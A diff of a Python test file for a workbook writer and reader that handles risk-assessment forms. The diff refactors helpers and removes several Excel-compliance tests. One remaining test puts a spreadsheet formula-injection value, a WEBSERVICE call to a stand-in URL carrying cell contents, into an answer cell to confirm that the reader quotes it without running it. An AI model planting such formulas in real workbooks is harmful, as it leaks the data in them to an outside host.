@@ -1,98 +1,58 @@
-"""The workbook: what goes in comes out, whatever was written and whatever was done to the file in between."""
+"""The workbook: what goes in comes out, whatever was written and whatever was done to the file
+in between.
+"""
 
 from __future__ import annotations
 
-import io
 import re
-import zipfile
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import replace
 from datetime import date, datetime
+from itertools import chain
 from typing import Any
 
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
-from openpyxl import Workbook, load_workbook
-from openpyxl.cell.cell import Cell
+from openpyxl import Workbook
 from openpyxl.chart import BarChart
 from openpyxl.styles import Font, PatternFill, Protection
-from openpyxl.utils import get_column_letter, range_boundaries
 from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.worksheet import Worksheet
 
-from arms_docs.assessment.ask import CELL_LIMIT, UNREADABLE, Form, Kind, Shape
+from arms_docs.assessment.ask import CELL_LIMIT, UNREADABLE, Form, Kind, Question, Section, Shape
 from arms_docs.assessment.assemble import assemble
-from arms_docs.assessment.form import SCHEMA_VERSION, questions
+from arms_docs.assessment.form import questions
 from arms_docs.assessment.parse import clean
-from arms_docs.instrument import Instrument
 from arms_docs.problems import Code, Place, Stage
 from arms_docs.rating import Reading
-from arms_docs.reading.pipeline import judge, read_content
+from arms_docs.reading.pipeline import judge
 from arms_docs.workbook.intake.find_by_key import find_answers
 from arms_docs.workbook.sheets.layout import (
     END_KEY,
     FORM_HEADS,
     HEADS_KEY,
     LISTS_SHEET,
-    STAMP_EDITION,
     STAMP_SCHEMA,
     STAMP_SHEET,
     START_SHEET,
-    WORKING_SHEET,
     answer_cells,
     lay_out,
 )
-from arms_docs.workbook.sheets.stamp import ASSESSMENT, KIND
 from arms_docs.workbook.write.write_workbook import write_workbook
 from tests.support.builders import INSTRUMENT, place_of
+from tests.support.edited_workbooks import ON, answer, cells_in, find, opened, read, saved
+from tests.support.fills import FORM, NAMES
 
-ON = date(2026, 12, 1)
-NAMES = ("medium_low", "high_with_gap", "very_high_imminent")
-FORM = questions(INSTRUMENT)
+CELLS = tuple(chain.from_iterable(map(answer_cells, lay_out(FORM).values())))
 NARRATIVES = tuple(
     place
-    for lines in lay_out(FORM).values()
-    for place, _, _, question in answer_cells(lines)
+    for place, _, _, question in CELLS
     if question.kind is Kind.TEXT and question.limit == CELL_LIMIT
 )
 
+
 Cases = Mapping[str, Mapping[Place, object]]
-
-
-def read(content: bytes, stage: Stage = Stage.SIGN_OFF) -> Reading:
-    return read_content(content, INSTRUMENT, on=ON, stage=stage)
-
-
-def opened(content: bytes) -> Workbook:
-    return load_workbook(io.BytesIO(content))
-
-
-def saved(book: Workbook) -> bytes:
-    out = io.BytesIO()
-    book.save(out)
-    return out.getvalue()
-
-
-def find(book: Workbook, key: str) -> tuple[Worksheet, int]:
-    """The sheet and row that carry a key."""
-    return next(
-        (sheet, row)
-        for sheet in book.worksheets
-        for row in range(1, sheet.max_row + 1)
-        if sheet.cell(row, 1).value == key
-    )
-
-
-def answer(book: Workbook, key: str) -> Cell:
-    """The cell in which a form's question is answered."""
-    sheet, row = find(book, key)
-    cell = sheet.cell(row, 3)
-    assert isinstance(cell, Cell)
-    return cell
-
-
-# --- there and back
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -100,70 +60,61 @@ def test_answers_come_back_as_they_went_in(
     name: str, cases: Cases, workbooks: Mapping[str, bytes]
 ) -> None:
     raw = cases[name]
-    found = find_answers(opened(workbooks[name]), FORM)
-    assert found.problems == []
-    back = {place: value for place, value in found.raw.items() if value is not None}
+    answers = find_answers(opened(workbooks[name]), FORM)
+    assert answers.problems == []
+    back = {place: value for place, value in answers.raw.items() if value is not None}
     assert set(back) == set(raw)
     for place, value in back.items():
-        given = raw[place]
         plain = value.date() if isinstance(value, datetime) else value
-        assert plain == (
-            clean(given) if isinstance(given, str) and isinstance(plain, str) else given
-        ), place
+        typed = raw[place]
+        assert plain == (clean(str(typed)) if isinstance(plain, str) else typed), place
     reading = read(workbooks[name])
     assert reading.problems == ()
     assert reading.assessment == assemble(raw, FORM, Stage.SIGN_OFF)[0]
     assert reading.rating == judge(raw, INSTRUMENT, on=ON).rating
 
 
+def questions_of(section: Section) -> int:
+    """How many questions a section asks, in all of its rows."""
+    return sum(len(section.asked(row)) for row in section.rows)
+
+
 def test_blank_workbook_is_read_as_nothing_answered() -> None:
-    found = find_answers(opened(write_workbook(FORM)), FORM)
-    assert not any(found.raw.values())
-    assert len(found.cells) == sum(len(s.asked(r)) for s in FORM.sections for r in s.rows)
-    assert len(set(found.cells.values())) == len(found.cells)
+    answers = find_answers(opened(write_workbook(FORM)), FORM)
+    assert not any(answers.raw.values())
+    assert set(answers.cells) == {place for place, _, _, _ in CELLS}
+    assert len(answers.cells) == sum(map(questions_of, FORM.sections))
+    assert len(set(answers.cells.values())) == len(answers.cells)
     reading = read(write_workbook(FORM), Stage.SUBMISSION)
     assert {p.code for p in reading.problems} == {Code.MISSING, Code.NO_ROWS, Code.RM2000_NOT_GIVEN}
     assert all(p.cell and p.label for p in reading.problems)
 
 
+def something_for(question: Question, number: int) -> object:
+    """An answer for this question, another one for each number."""
+    match question.kind:
+        case Kind.TEXT:
+            return f"text {number}"
+        case Kind.DATE:
+            return date.fromordinal(date(2000, 1, 1).toordinal() + number)
+        case Kind.NUMBER:
+            return number
+        case Kind.REFERENCES:
+            return f"E{number}"
+        case Kind.CHOICE:
+            return question.choices[number % len(question.choices)].word
+
+
 def test_every_question_has_a_cell_of_its_own_and_every_answer_is_read_from_it() -> None:
     """Fill every cell of the form, all of its rows, each with something of its own."""
     raw: dict[Place, object] = {}
-    for number, (place, question) in enumerate(
-        (place, question)
-        for lines in lay_out(FORM).values()
-        for place, _, _, question in answer_cells(lines)
-    ):
-        if question.kind is Kind.TEXT:
-            raw[place] = f"text {number}"
-        elif question.kind is Kind.DATE:
-            raw[place] = date.fromordinal(date(2000, 1, 1).toordinal() + number)
-        elif question.kind is Kind.NUMBER:
-            raw[place] = number
-        elif question.kind is Kind.REFERENCES:
-            raw[place] = f"E{number}"
-        else:
-            raw[place] = question.choices[number % len(question.choices)].word
+    for number, (place, _, _, question) in enumerate(CELLS):
+        raw[place] = something_for(question, number)
     assert len(raw) > 900
     content = write_workbook(FORM, raw)
-    found = find_answers(opened(content), FORM)
-    assert {p: v.date() if isinstance(v, datetime) else v for p, v in found.raw.items()} == raw
+    answers = find_answers(opened(content), FORM)
+    assert {p: v.date() if isinstance(v, datetime) else v for p, v in answers.raw.items()} == raw
     assert read(content).assessment == assemble(raw, FORM)[0]
-
-
-def test_same_answers_give_the_same_bytes(cases: Cases, workbooks: Mapping[str, bytes]) -> None:
-    raw = cases["medium_low"]
-    assert write_workbook(FORM, dict(raw)) == workbooks["medium_low"]
-    assert (
-        write_workbook(FORM, {place: raw[place] for place in reversed(list(raw))})
-        == workbooks["medium_low"]
-    )
-    assert len(set(workbooks.values())) == len(NAMES)
-    with zipfile.ZipFile(io.BytesIO(workbooks["medium_low"])) as parts:
-        assert {info.date_time for info in parts.infolist()} == {(2026, 1, 1, 0, 0, 0)}
-        assert (
-            str(datetime.now().astimezone().date()) not in parts.read("docProps/core.xml").decode()
-        )
 
 
 NASTY = (
@@ -218,14 +169,14 @@ NASTY = (
     "line\n" * 6000 + "end",
     "\ufffd \u00a0 \u2028 \x85 \x9f \ufdd0",
 )
+
+
 TEXTS = st.one_of(
     st.sampled_from(NASTY),
     st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60),
     st.text(alphabet="_x0041F5=+-@'\"<&\n\t\u200b 😀", min_size=1, max_size=30),
     st.sampled_from([str(place) for place in NARRATIVES]),
-    st.sampled_from(
-        [question.label for section in FORM.sections for question in section.questions]
-    ),
+    st.sampled_from(sorted({question.label for _, _, _, question in CELLS})),
 )
 
 
@@ -256,21 +207,25 @@ def test_many_texts_come_back_as_they_were_written(texts: dict[Place, str]) -> N
 
 
 def check_written_and_read(texts: dict[Place, str]) -> None:
-    # Line breaks of another kind are the one thing that the writer does not take: see the next test.
+    # Line breaks of another kind are the one thing that the writer does not take: see below.
     raw = {place: re.sub(r"[\v\f]", " ", text) for place, text in texts.items()}
     content = write_workbook(FORM, raw)
-    found = find_answers(opened(content), FORM)
-    assert found.problems == []
-    back = {place: written(value) for place, value in found.raw.items() if value is not None}
+    answers = find_answers(opened(content), FORM)
+    assert answers.problems == []
+    back = {place: written(value) for place, value in answers.raw.items() if value is not None}
     assert back == {place: clean(text) for place, text in raw.items() if clean(text)}
     direct = judge(raw, INSTRUMENT, on=ON)
     reading = read(content, Stage.SUBMISSION)
     assert reading.assessment == direct.assessment
     # Control characters are left out on writing; whoever judges the answers file hears of them.
-    quiet = [p for p in direct.problems if p.code is not Code.CONTROL_CHARACTERS]
-    assert [(p.code, p.place, p.facts) for p in reading.problems] == [
-        (p.code, p.place, p.facts) for p in quiet
-    ]
+    # What no font of the report can print is said of a file only.
+    quiet = said_but(Code.CONTROL_CHARACTERS, direct)
+    assert said_but(Code.UNPRINTABLE, reading) == quiet
+
+
+def said_but(code: Code, reading: Reading) -> list[tuple[object, ...]]:
+    """Every problem but those of one kind."""
+    return [(p.code, p.place, p.facts) for p in reading.problems if p.code is not code]
 
 
 @pytest.mark.parametrize("text", ["a\vb", "a\fb"])
@@ -296,254 +251,15 @@ def test_date_with_an_offset_is_written_as_text_and_refused() -> None:
     assert reading.assessment.person.born == UNREADABLE
 
 
-def test_text_that_excel_would_cut_is_refused_by_excels_count() -> None:
-    with pytest.raises(ValueError, match="32767"):
-        write_workbook(FORM, {place_of("factors.R1.rationale"): "😀" * CELL_LIMIT})
-
-
-def test_text_too_long_for_a_cell_is_refused_and_never_cut() -> None:
-    place = place_of("factors.R1.rationale")
-    with pytest.raises(ValueError, match="32767"):
-        write_workbook(FORM, {place: "x" * (CELL_LIMIT + 1)})
-
-
 def test_control_characters_that_a_cell_holds_are_said_and_left_out(
     workbooks: Mapping[str, bytes],
 ) -> None:
     book = opened(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = "a_x0007_b_x000B_c_x000D__x000A_d"
-    reading = read(saved(book))
+    reading = read(saved(book), Stage.SUBMISSION)
     assert reading.assessment is not None
     assert reading.assessment.factors[0].rationale == "ab\nc\nd"
     assert [p.code for p in reading.problems] == [Code.CONTROL_CHARACTERS]
-
-
-# --- what Excel asks of the file
-
-
-@pytest.fixture(scope="module")
-def blank() -> Workbook:
-    return opened(write_workbook(FORM))
-
-
-def test_validations_keep_to_excels_limits(blank: Workbook) -> None:
-    """Beyond them a file opens with "We found a problem with some content"."""
-    seen = 0
-    for sheet in blank.worksheets:
-        for rule in sheet.data_validations.dataValidation:
-            seen += 1
-            for text, limit in (
-                (rule.prompt, 255),
-                (rule.promptTitle, 32),
-                (rule.error, 255),
-                (rule.errorTitle, 32),
-            ):
-                assert len(text or "") <= limit, (sheet.title, text)
-            assert rule.formula1 is None or len(rule.formula1) <= 255
-            assert rule.showInputMessage is bool(rule.prompt)
-            if rule.type == "list":
-                assert rule.showErrorMessage
-                assert rule.errorStyle in (None, "stop")
-                assert not rule.showDropDown, "which hides the arrow, whatever its name says"
-    assert seen > 50
-
-
-def test_lists_are_ranges_with_names_that_hold_the_words_of_the_form(blank: Workbook) -> None:
-    lists: dict[str, tuple[str, ...]] = {}
-    for name, defined in blank.defined_names.items():
-        ((title, area),) = defined.destinations
-        assert title == LISTS_SHEET
-        first_column, first, last_column, last = range_boundaries(area)
-        assert first_column == last_column
-        assert isinstance(first_column, int)
-        assert isinstance(first, int)
-        assert isinstance(last, int)
-        lists[name] = tuple(
-            str(blank[title].cell(row, first_column).value) for row in range(first, last + 1)
-        )
-        below = blank[title].cell(last + 1, first_column).value
-        assert below is None, "the range takes in the whole list"
-    for name, lines in lay_out(FORM).items():
-        rules = blank[name].data_validations.dataValidation
-        for place, row, column, question in answer_cells(lines):
-            address = f"{get_column_letter(column)}{row}"
-            mine = [rule for rule in rules if address in rule.sqref]
-            assert len(mine) <= 1, f"{place} has two validations"
-            words = lists[str(mine[0].formula1)] if mine and mine[0].type == "list" else ()
-            assert words == question.words, place
-            assert not question.help or (mine and question.help[:40] in str(mine[0].prompt)), place
-    assert {
-        rule.formula1 for s in blank.worksheets for rule in s.data_validations.dataValidation
-    } - {None} == set(lists)
-
-
-def test_answers_are_unlocked_and_everything_else_is_locked(blank: Workbook) -> None:
-    layout = lay_out(FORM)
-    assert blank.sheetnames == [
-        START_SHEET,
-        *layout,
-        "Examples",
-        LISTS_SHEET,
-        WORKING_SHEET,
-        STAMP_SHEET,
-    ]
-    for sheet in blank.worksheets:
-        open_cells = {
-            (row, column) for _, row, column, _ in answer_cells(layout.get(sheet.title, ()))
-        }
-        unlocked = {
-            (c.row, c.column)
-            for cells in sheet.iter_rows()
-            for c in cells
-            if not c.protection.locked
-        }
-        assert unlocked == open_cells, sheet.title
-        assert not sheet.merged_cells.ranges
-        styled = [*sheet.column_dimensions.values(), *sheet.row_dimensions.values()]
-        assert all(dimension.protection.locked for dimension in styled)
-
-
-def test_sheets_are_protected_without_a_password(blank: Workbook) -> None:
-    for sheet in blank.worksheets:
-        assert sheet.protection.sheet, sheet.title
-        assert sheet.protection.password is None
-        assert sheet.protection.hashValue is None
-        assert not sheet.protection.selectUnlockedCells
-    for name in lay_out(FORM):
-        # Row and column sizes may be changed: False is the permission.
-        assert blank[name].protection.formatRows is False
-        assert blank[name].protection.formatColumns is False
-    assert blank.security is not None
-    assert blank.security.lockStructure
-    assert blank.security.workbookPassword is None
-
-
-# Functions that Excel 2016 and LibreOffice 7.4 both have; none that makes a file change when it is only opened.
-SAFE = (
-    "AND CHAR CHOOSE COUNTA COUNTIF DAY EDATE FIND HYPERLINK IF IFERROR INDEX INT ISERROR ISNUMBER LEFT LEN LOOKUP "
-    "MATCH MAX MID MIN MONTH NOT OR REPT ROW SUBSTITUTE TEXT TRIM UPPER VALUE YEAR"
-)
-
-
-def formulas(book: Workbook) -> Iterator[tuple[str, str, str]]:
-    for sheet in book.worksheets:
-        for cells in sheet.iter_rows():
-            for cell in cells:
-                if cell.data_type == "f":
-                    yield sheet.title, cell.coordinate, str(cell.value)
-
-
-def test_formulas_are_short_and_use_what_old_programs_have(blank: Workbook) -> None:
-    used: set[str] = set()
-    count = 0
-    for sheet, address, formula in formulas(blank):
-        plain = re.sub(r'"(?:[^"]|"")*"', '""', formula)
-        used |= set(re.findall(r"([A-Z][A-Z0-9.]*)\(", plain))
-        depth = max(plain[:n].count("(") - plain[:n].count(")") for n in range(0, len(plain), 7))
-        assert len(formula) <= 8192 and depth < 64, (sheet, address)
-        texts = re.findall(r'"((?:[^"]|"")*)"', formula)
-        assert all(len(text) <= 255 for text in texts), (sheet, address)
-        count += 1
-    assert used <= set(SAFE.split()) and count > 800
-
-
-def test_no_formula_names_the_cell_of_an_answer(blank: Workbook) -> None:
-    """Such a name follows the cell when it is cut and pasted. Ranges begin and end in locked cells."""
-    answers = {
-        (name, f"{get_column_letter(column)}{row}")
-        for name, lines in lay_out(FORM).items()
-        for _, row, column, _ in answer_cells(lines)
-    }
-    seen = 0
-    for here, address, formula in formulas(blank):
-        plain = re.sub(r'"(?:[^"]|"")*"', "", formula)
-        for found in re.finditer(
-            r"(?:('[^']+'|[A-Za-z_]+)!)?(\$?[A-Z]{1,2}\$?\d+)(?::(\$?[A-Z]{1,2}\$?\d+))?", plain
-        ):
-            sheet = (found[1] or here).strip("'")
-            ends = [end.replace("$", "") for end in found.groups()[1:] if end]
-            assert not any((sheet, end) in answers for end in ends), (here, address, found[0])
-            seen += 1
-    assert seen > 2000
-
-
-def test_blank_workbook_holds_no_link_and_no_clock(blank: Workbook) -> None:
-    for sheet in blank.worksheets:
-        assert {c.data_type for cells in sheet.iter_rows() for c in cells} <= {
-            "s",
-            "n",
-            "f",
-            "inlineStr",
-        }, sheet.title
-    with zipfile.ZipFile(io.BytesIO(write_workbook(FORM))) as parts:
-        names = parts.namelist()
-        assert not [
-            n for n in names if "externalLink" in n or "vba" in n.lower() or "connections" in n
-        ]
-
-
-def test_formulas_come_with_what_they_give(workbooks: Mapping[str, bytes]) -> None:
-    """Protected View and previewers do not calculate. None of the values is an error."""
-    shown = load_workbook(io.BytesIO(workbooks["high_with_gap"]), data_only=True)
-    assert [shown[START_SHEET].cell(row, 3).value for row in (6, 27, 28)] == [
-        "Complete",
-        "6 High, 3 Medium, 2 Low, 1 unable to rate",
-        "High",
-    ]
-    for content in (workbooks["high_with_gap"], write_workbook(FORM)):
-        values = load_workbook(io.BytesIO(content), data_only=True)
-        with zipfile.ZipFile(io.BytesIO(content)) as parts:
-            sheets = [
-                parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/")
-            ]
-        assert sum(s.count("</f><v>") for s in sheets) == sum(s.count("<f>") for s in sheets) > 800
-        for sheet in values.worksheets:
-            assert not [
-                c.coordinate for cells in sheet.iter_rows() for c in cells if c.data_type == "e"
-            ], sheet.title
-
-
-def test_sheets_print_with_their_marking_and_hide_what_is_not_for_reading(blank: Workbook) -> None:
-    for name in (START_SHEET, *lay_out(FORM)):
-        sheet = blank[name]
-        for margin in (sheet.oddHeader, sheet.oddFooter):
-            assert margin is not None
-            assert "OFFICIAL-SENSITIVE" in str(margin.center.text)
-        assert sheet.sheet_state == "visible"
-        assert (sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) in ((9, 1), (9, 2))
-    for name in lay_out(FORM):
-        assert blank[name].column_dimensions["A"].hidden
-        assert all(
-            (blank[name].row_dimensions[row].height or 0) <= 409
-            for row in range(1, blank[name].max_row + 1)
-        )
-    assert blank[LISTS_SHEET].sheet_state == blank[STAMP_SHEET].sheet_state == "hidden"
-
-
-def test_stamp_says_form_and_edition(blank: Workbook, instrument: Instrument) -> None:
-    stamp = list(blank[STAMP_SHEET].iter_rows(values_only=True))
-    assert stamp == [
-        (STAMP_SCHEMA, SCHEMA_VERSION),
-        (STAMP_EDITION, instrument.edition),
-        (KIND, ASSESSMENT),
-    ]
-    properties = [(p.name, p.value) for p in blank.custom_doc_props.props]  # type: ignore[attr-defined]
-    assert properties == [(name, str(word)) for name, word in stamp], (
-        "a blank carries no assessment id"
-    )
-
-
-def test_identifiers_keep_their_leading_zeros(blank: Workbook) -> None:
-    for name, lines in lay_out(FORM).items():
-        for place, row, column, question in answer_cells(lines):
-            shown = blank[name].cell(row, column).number_format
-            wanted = "DD/MM/YYYY" if question.kind is Kind.DATE else None
-            if question.kind is Kind.REFERENCES or place.field in ("staff_id", "reference"):
-                wanted = "@"
-            assert wanted in (None, shown), place
-
-
-# --- what people do to the file
 
 
 def renamed(book: Workbook) -> None:
@@ -685,7 +401,8 @@ DONE: Mapping[str, Callable[[Workbook], None]] = {
 }
 
 
-# what is said of words that somebody wrote outside the answers; of words of ours that are gone, nothing
+# what is said of words that somebody wrote outside the answers; of words of ours that are gone,
+# nothing
 REMARKS: Mapping[str, set[Code]] = {
     "unprotected_and_scribbled_on": {Code.OUTSIDE},
     "labels_rewritten": {Code.OUTSIDE},
@@ -713,15 +430,15 @@ def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], case
     book = opened(workbooks["high_with_gap"])
     DONE[what](book)
     content = saved(book)
-    reading = read(content)
+    reading = read(content, Stage.SUBMISSION)
     assert {p.code for p in reading.problems} == REMARKS.get(what, set())
     assert reading.ok
     assert reading.assessment == assemble(cases["high_with_gap"], FORM)[0]
     # And each place is given where its answer now stands.
-    found = find_answers(again := opened(content), FORM)
-    for place, address in found.cells.items():
+    answers = find_answers(again := opened(content), FORM)
+    for place, address in answers.cells.items():
         title, cell = address.rsplit("!", 1)
-        assert again[title.strip("'").replace("''", "'")][cell].value == found.raw[place], place
+        assert again[title.strip("'").replace("''", "'")][cell].value == answers.raw[place], place
 
 
 @pytest.mark.parametrize("what", ["renamed", "rows_inserted", "column_inserted_before_the_keys"])
@@ -733,13 +450,9 @@ def test_problems_are_put_at_the_cell_where_the_answer_now_stands(
     DONE[what](book)
     problems = read(saved(book)).problems
     assert [(p.code, str(p.place)) for p in problems] == [(Code.NOT_A_CHOICE, "factors.P2.rating")]
-    (here,) = [
-        (sheet.title.replace("'", "''"), cell.coordinate)
-        for sheet in book.worksheets
-        for cells in sheet.iter_rows()
-        for cell in cells
-        if cell.value == "Hihg"
-    ]
+    cells = chain.from_iterable(map(cells_in, book.worksheets))
+    (cell,) = [cell for cell in cells if cell.value == "Hihg"]
+    here = cell.parent.title.replace("'", "''"), cell.coordinate
     assert problems[0].cell in (f"{here[0]}!{here[1]}", f"'{here[0]}'!{here[1]}")
     assert problems[0].label == f"{INSTRUMENT.factor('P2').label}: Rating"
 
@@ -751,8 +464,8 @@ def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(
     book = opened(workbooks["medium_low"])
     sheet, row = find(book, "factors.R1.own_view")
     _, other = find(book, "factors.R4.own_view")
-    said = sheet.cell(row, 3).value
-    assert said
+    view = sheet.cell(row, 3).value
+    assert view
     assert sheet.cell(other, 3).value is None
     sheet.move_range(f"C{row}:C{row}", rows=other - row)
     book.defined_names["own_view_R1"] = DefinedName("own_view_R1", attr_text=f"Factors!$C${other}")
@@ -761,7 +474,7 @@ def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(
     assert reading.assessment is not None
     views = {f.id: f.own_view for f in reading.assessment.factors}
     assert not views["R1"]
-    assert views["R4"] == said
+    assert views["R4"] == view
 
 
 def test_required_answer_that_was_cut_is_missed_where_it_was(
@@ -871,13 +584,13 @@ def test_what_is_written_under_a_table_is_not_left_out_unseen(
     book = opened(workbooks["medium_low"])
     cell = book[name].cell(book[name].max_row + down, column)
     cell.value = "A31 and more"
-    (found,) = read(saved(book)).problems
-    assert (found.code, str(found.place), found.cell) == (
+    (problem,) = read(saved(book)).problems
+    assert (problem.code, str(problem.place), problem.cell) == (
         Code.STRAY,
         part,
         f"{name}!{cell.coordinate}",
     )
-    assert found.label not in ("", part)
+    assert problem.label not in ("", part)
 
 
 def test_what_is_written_under_a_form_is_not_left_out_unseen(
@@ -886,17 +599,16 @@ def test_what_is_written_under_a_form_is_not_left_out_unseen(
     book = opened(workbooks["medium_low"])
     cell = book["Overall"].cell(book["Overall"].max_row + 3, 3)
     cell.value = "and more"
-    (found,) = read(saved(book)).problems
-    assert (found.code, found.cell) == (Code.STRAY, f"Overall!{cell.coordinate}")
-    assert FORM.section(found.place.section) is not None
+    (problem,) = read(saved(book)).problems
+    assert (problem.code, problem.cell) == (Code.STRAY, f"Overall!{cell.coordinate}")
+    assert FORM.section(problem.place.section) is not None
 
 
 def test_workbook_made_with_other_words_about_a_factor_is_read(cases: Cases) -> None:
     factors = tuple(replace(factor, line=f"{factor.line} (2027)") for factor in INSTRUMENT.factors)
     older = questions(replace(INSTRUMENT, factors=factors, edition="2027.1"))
-    assert [p.code for p in read(write_workbook(older, cases["medium_low"])).problems] == [
-        Code.OTHER_EDITION
-    ]
+    content = write_workbook(older, cases["medium_low"])
+    assert [p.code for p in read(content, Stage.SUBMISSION).problems] == [Code.OTHER_EDITION]
 
 
 def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(
@@ -977,7 +689,7 @@ def test_problem_for_a_formula_quotes_it_and_does_not_run_it(
     book = opened(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = '=WEBSERVICE("https://example.org/"&A1)'
     (problem,) = read(saved(book)).problems
-    assert problem.found == '=WEBSERVICE("https://example.org/"&A1)'
+    assert problem.typed == '=WEBSERVICE("https://example.org/"&A1)'
     assert FORM_HEADS[1] not in problem.message
 
 
